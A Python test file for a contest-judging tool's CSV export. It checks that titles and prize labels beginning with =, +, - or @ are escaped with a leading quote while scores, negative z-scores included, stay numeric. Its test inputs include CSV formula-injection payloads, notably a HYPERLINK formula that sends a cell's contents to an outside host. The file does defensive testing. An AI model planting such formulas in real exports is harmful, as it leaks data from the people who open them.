"""The judges' CSV opens in Excel as text and numbers: no cell runs as a formula.

Read back as the committee's spreadsheet reads it: a text cell that starts with ``=``,
``+``, ``-`` or ``@`` starts with ``'`` (OWASP's rule); numbers, negative z-scores
included, stay numbers; the JSON keeps every value exact.
"""

from __future__ import annotations

import csv
import io

from .conftest import ContestRepo

FORMULA = '=HYPERLINK("https://example.org/?x="&B2,"Xem")'


def read_csv(repo: ContestRepo) -> list[dict[str, str]]:
    code, out, err = repo.run("judge", "hoi-thi", "--format", "csv")
    assert (code, err) == (0, "") and out.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))


def test_titles_that_look_like_formulas_are_text_and_scores_stay_numbers(
    repo: ContestRepo,
) -> None:
    titles = {"a": FORMULA, "b": "+84 đường dây nóng", "c": "-Giảm hồ sơ trễ hạn",
              "d": "@SUM(1+1)", "e": "Một cửa = liên thông"}  # fmt: skip
    for record_id, title in titles.items():
        repo.record(record_id, title=title, agency=f"Đơn vị {record_id}")
    # z-score: judge 2 sees "a" far below the rest, judge 1 only slightly; "a"'s mean
    # z-score, put back on the contest's scale, is below zero.
    repo.contest(method="z-score", prizes=[{"label": "=Giải Nhất", "count": 1}])
    repo.scores("gk-01", {"a": (0, 0, 0), "b": (1, 1, 1)})
    repo.scores("gk-02", {"a": (0, 0, 0), "c": (30, 40, 30), "d": (30, 40, 30),
                          "e": (30, 40, 30)})  # fmt: skip
    rows = {row["id"]: row for row in read_csv(repo)}
    assert {key: row["title"] for key, row in rows.items()} == {
        "a": "'" + FORMULA, "b": "'+84 đường dây nóng", "c": "'-Giảm hồ sơ trễ hạn",
        "d": "'@SUM(1+1)", "e": "Một cửa = liên thông",
    }  # fmt: skip
    assert float(rows["a"]["score"]) < 0 and not rows["a"]["score"].startswith("'")
    assert [row["prize"] for row in rows.values() if row["prize"]] == ["'=Giải Nhất"]
    ranking = {line["id"]: line for line in repo.judge()["ranking"]}
    assert ranking["a"]["title"] == FORMULA  # the JSON is exact
    assert ranking["a"]["score"] < 0
